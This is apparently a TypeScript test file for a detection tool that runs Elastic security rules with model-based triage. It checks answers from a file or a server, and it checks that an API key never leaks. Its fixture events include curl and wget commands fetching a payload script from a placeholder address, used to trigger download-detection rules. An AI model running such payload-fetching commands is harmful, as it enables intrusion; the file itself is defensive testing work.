/** COMPLETION from rules and files to alerts: with nobody to ask, with answers out of a file, with a server. */
import assert from 'node:assert/strict';
import type { ChildProcess } from 'node:child_process';
import { fork } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { ASKING_RULE } from '../../tests/support/asking-rule.ts';
import type { Alert } from '../model/alert.ts';
import type { RunSummary } from '../model/summary.ts';
import type { CompletionChoice } from './completion.ts';
import { scan } from './scan.ts';
import { SetUpError } from './set-up-error.ts';
import { testRules } from './rule-tests.ts';

const folder = mkdtempSync(join(tmpdir(), 'winnow-completion-'));
const inFolder = (name: string, text: string): string => {
  writeFileSync(join(folder, name), text);
  return join(folder, name);
};
let server: ChildProcess;
let base = '';
before(async () => {
  server = fork(new URL('../../tests/support/completion-server.ts', import.meta.url));
  base = await new Promise<string>((resolve) =>
    server.once('message', (address) => resolve(String(address))),
  );
});
after(() => {
  server.kill();
  rmSync(folder, { recursive: true });
});

const ndjson = (documents: readonly object[]): string =>
  documents.map((document) => `${JSON.stringify(document)}\n`).join('');

const rule = inFolder('asks.toml', ASKING_RULE);
inFolder(
  'asks.tests.toml',
  `[base]
"@timestamp" = "2026-01-01T00:00:00Z"
event.action = "exec"
ecs.version = "8.11.0"
[[fires]]
name = "eve"
with.user.name = "eve"
[[quiet]]
name = "bob"
with.user.name = "bob"
`,
);
const log = inFolder(
  'log.ndjson',
  ndjson(
    ['eve', 'bob'].map((user) => ({
      '@timestamp': '2026-01-01T00:00:00Z',
      event: { action: 'exec' },
      user: { name: user },
    })),
  ),
);
const answers = inFolder(
  'answers.json',
  JSON.stringify([{ contains: ['eve'], answer: 'verdict=TP' }, { answer: 'verdict=FP' }]),
);

async function run(
  completion: CompletionChoice | undefined,
  { rules = [rule], inputs = [log], ids = [] as readonly string[] } = {},
): Promise<{ readonly alerts: readonly Alert[]; readonly summary: RunSummary }> {
  const alerts: Alert[] = [];
  const summary = await scan(
    {
      inputs,
      ingest: { shape: 'ecs', keepRequestReceived: false },
      rules,
      filter: { rules: ids, tags: [], deprecated: false, buildingBlocks: true },
      ignoreIndex: false,
      ...(completion === undefined ? {} : { queries: { completion } }),
    },
    { alert: (alert) => alerts.push(alert) },
    new AbortController().signal,
  );
  return { alerts, summary };
}

const told = (alerts: readonly Alert[]) =>
  alerts.map(({ document, severity, lead }) => [document['user.name'], severity, lead === true]);

const KEY = 'sk-very-secret-0123456789';
const http = (path: string): CompletionChoice => ({
  kind: 'http',
  endpoint: { url: `${base}/${path}`, model: 'm', key: KEY },
  timeout: 5_000,
  requests: 10,
  tokens: 10_000,
});

test('off, the rule is listed as one that needs a provider', async () => {
  const { alerts, summary } = await run(undefined);
  assert.deepEqual(alerts, []);
  assert.deepEqual(
    summary.rules.notRunnable.map(({ what, rules }) => [what, rules]),
    [['needs a provider', ['Asks a model']]],
  );
  assert.equal(summary.completion, undefined);
});

test('prefilter tells every candidate and asks nobody', async () => {
  const { alerts, summary } = await run({ kind: 'prefilter' });
  assert.deepEqual(told(alerts), [
    ['eve', 'low', true],
    ['bob', 'low', true],
  ]);
  assert.deepEqual(summary.completion, {
    provider: 'prefilter',
    asked: 0,
    answered: 0,
    unanswered: [],
  });
  assert.equal(summary.alerts.leads, 2);
});

test('answers out of a file decide which candidates are alerts', async () => {
  const { alerts, summary } = await run({ kind: 'fixture', file: answers });
  assert.deepEqual(told(alerts), [
    ['eve', 'high', false],
    ['bob', 'low', true],
  ]);
  assert.deepEqual(summary.completion, {
    provider: 'fixture',
    asked: 2,
    answered: 2,
    unanswered: [],
  });
});

test('candidates that a STATS behind the question leaves out are leads, and those that it counts are not', async () => {
  const counts = inFolder(
    'counts.toml',
    readFileSync(rule, 'utf8').replace(
      '| KEEP user.name, n, verdict',
      '| STATS users = VALUES(user.name), n = COUNT(*) BY verdict | STATS n = MAX(n), users = VALUES(users)',
    ),
  );
  const many = inFolder(
    'many.ndjson',
    ndjson(
      ['eve', 'eve2', 'bob'].map((user) => ({
        '@timestamp': '2026-01-01T00:00:00Z',
        event: { action: 'exec' },
        user: { name: user },
      })),
    ),
  );
  const { alerts } = await run({ kind: 'fixture', file: answers }, { rules: [counts], inputs: [many] });
  assert.deepEqual(
    alerts.map(({ document, lead }) => [document['users'] ?? document['user.name'], lead === true]),
    [
      [['eve', 'eve2'], false],
      ['bob', true],
    ],
  );
});

test('a server decides, and the key stands in nothing that comes out', async () => {
  const confirmed = await run(http('ok'));
  assert.deepEqual(told(confirmed.alerts), [
    ['eve', 'high', false],
    ['bob', 'high', false],
  ]);
  assert.deepEqual(confirmed.summary.completion, {
    provider: 'http',
    asked: 2,
    answered: 2,
    unanswered: [],
    requests: 2,
    tokens: 84,
  });
  const denied = await run(http('denied'));
  assert.deepEqual(told(denied.alerts), [
    ['eve', 'low', true],
    ['bob', 'low', true],
  ]);
  assert.ok(!JSON.stringify([confirmed, denied]).includes(KEY));
});

test('tests of rules run with answers out of a file, and leads are no alerts to them', async () => {
  const outcomes = async (completion?: CompletionChoice): Promise<string[]> => {
    const { results } = await testRules(
      { paths: [rule], rules: [] },
      [],
      {},
      completion === undefined ? {} : { completion },
    );
    return results.map(({ name, outcome }) => `${name} ${outcome}`);
  };
  assert.deepEqual(await outcomes(), ['eve skipped', 'bob skipped']);
  assert.deepEqual(await outcomes({ kind: 'fixture', file: answers }), ['eve passed', 'bob passed']);
  assert.deepEqual(await outcomes({ kind: 'prefilter' }), ['eve passed', 'bob failed']);
});

test('what cannot be used is refused before anything is read, without saying the key', async () => {
  const endpoint = async (url: string, key: string = KEY): Promise<string> => {
    const choice = { ...http('ok'), endpoint: { url, model: 'm', key } } as CompletionChoice;
    const error = await run(choice).then(
      () => undefined,
      (thrown: unknown) => thrown,
    );
    assert.ok(error instanceof SetUpError);
    assert.ok(!JSON.stringify([error.message, error.diagnostic]).includes(key));
    return `${error.diagnostic.code} ${error.message}`;
  };
  assert.deepEqual(
    [
      await endpoint('nonsense'),
      await endpoint('ftp://example.com'),
      await endpoint('https://user:pass@example.com/v1'),
      await endpoint('http://example.com/v1'),
      await endpoint('https://example.com/v1', 'two\nlines'),
    ],
    [
      'RUN006 the address is not a URL',
      'RUN006 the address begins with ftp:, not with http: or https:',
      'RUN006 the address holds a user name or a password',
      'RUN006 the key would be sent over http, where others can read it',
      'RUN006 the key holds characters that no header can carry',
    ],
  );
  await assert.rejects(run({ kind: 'fixture', file: join(folder, 'none.json') }), /cannot be read/);
});

const corpus = fileURLToPath(new URL('../../../shared/corpus/elastic', import.meta.url));
const skip = existsSync(corpus) ? false : 'no checkout of Elastic’s rules at ../shared/corpus/elastic';

const IDS = [
  'c3da1952-bae4-4672-aa57-2be7e6805381',
  'd3851f38-ce10-4d13-a056-99fe711e6bcc',
  'f236cca1-e887-4d14-9ba9-bb8dd3e16cf1',
  '1bb329a5-2168-4da5-b7b9-d42a51deb6dd',
  '3dc4e312-346b-4a10-b05f-450e1eeab91c',
];
const WGET = ['*wget_activity_auditd_llm_triage.toml', '*wget_activity_llm_triage.toml'];

const download = (program: string, dataset: string, action: string) => ({
  '@timestamp': '2026-01-01T00:01:00Z',
  data_stream: { type: 'logs', dataset, namespace: 'default' },
  event: { action, category: ['process'], type: ['start'] },
  host: { id: 'h1', name: 'web-1' },
  user: { name: 'eve', id: '1001' },
  process: {
    name: program,
    args: [program, 'http://203.0.113.9/payload.sh'],
    title: `${program} http://203.0.113.9/payload.sh`,
    parent: { executable: '/bin/bash' },
  },
});

const signal = (n: number, user: string) => ({
  '@timestamp': `2026-01-01T00:02:0${n}Z`,
  'kibana.alert.uuid': `a${n}`,
  'kibana.alert.workflow_status': 'open',
  'kibana.alert.risk_score': 80,
  'kibana.alert.rule.name': `Rule ${n}`,
  'kibana.alert.rule.rule_id': `r${n}`,
  'kibana.alert.rule.type': 'query',
  'kibana.alert.rule.tags': ['Domain: Endpoint'],
  'kibana.alert.rule.threat.tactic.name': 'Execution',
  event: { kind: 'signal', module: `m${n}`, category: [n % 2 === 0 ? 'process' : 'network'] },
  host: { id: 'h1', name: 'web-1' },
  user: { name: user, id: user },
  process: { executable: '/usr/bin/x', command_line: `x ${n}` },
});

test('all seven rules of Elastic that ask a model run with answers out of a file', { skip }, async () => {
  const events = inFolder(
    'seven.ndjson',
    ndjson([
      ...['curl', 'wget'].flatMap((program) => [
        download(program, 'auditd_manager.auditd', 'executed'),
        download(program, 'endpoint.events.process', 'exec'),
      ]),
      ...[1, 2, 3].map((n) => signal(n, 'jane.doe')),
      signal(4, 'jdoe'),
    ]),
  );
  const entries = (verdict: string) => [
    { contains: ['User identities'], answer: `verdict=${verdict === 'TP'} confidence=0.9 summary=alike` },
    { answer: `verdict=${verdict} confidence=0.9 summary=because of the address` },
  ];
  const settings = { rules: [corpus], inputs: [events], ids: [...IDS, ...WGET] };
  const found = async (verdict: string): Promise<string[][]> => {
    const file = inFolder(`${verdict}.json`, JSON.stringify(entries(verdict)));
    const { alerts, summary } = await run({ kind: 'fixture', file }, settings);
    assert.equal(summary.rules.runnable, 7);
    const names = (leads: boolean): string[] =>
      [...new Set(alerts.filter(({ lead }) => (lead === true) === leads).map(({ ruleId }) => ruleId))].sort();
    return [names(false), names(true)];
  };
  const [confirmed = [], leads] = await found('TP');
  assert.equal(confirmed.length, 7);
  assert.deepEqual(leads, []);
  assert.deepEqual(await found('FP'), [[], confirmed]);
});
